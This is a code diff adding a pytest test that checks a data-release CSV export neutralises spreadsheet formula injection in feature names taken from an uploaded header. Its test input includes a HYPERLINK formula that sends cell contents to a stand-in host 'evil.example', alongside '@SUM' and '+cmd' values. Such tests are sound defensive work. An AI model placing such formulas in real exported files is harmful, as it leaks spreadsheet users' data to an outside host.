@@ -73,3 +73,19 @@ def test_bad_paths(tmp_path, release):
         save_npz(release, tmp_path / "missing" / "s.npz")
     with pytest.raises(ValueError, match="no release file"):
         load_npz(tmp_path / "none.npz")
+
+
+def test_csv_header_from_an_upload_is_never_a_spreadsheet_formula(release):
+    """Feature names come from an uploaded CSV's header: one starting with =, +, -, @ would run as a
+    formula when the exported release is opened in a spreadsheet (OWASP CSV injection)."""
+    d = release.X.shape[1]
+    names = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "@SUM(A1)", "+cmd", "-1", "age"]
+    names += [f"f{j}" for j in range(d - len(names))]
+    data = to_csv_bytes(release, feature_names=names).decode()
+    import pandas as pd
+    back = pd.read_csv(io.StringIO(data))
+    assert list(back.columns[1:6]) == ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"x\")", "'@SUM(A1)",
+                                       "'+cmd", "-1", "age"]
+    assert all(not str(c).startswith(("=", "+", "@")) for c in back.columns)
+    np.testing.assert_allclose(back.iloc[:, 1:].to_numpy(), release.X, rtol=1e-5, atol=1e-6)
+    assert (release.X < 0).any() and (back.iloc[:, 1:].to_numpy() < 0).any()  # negatives stay numbers
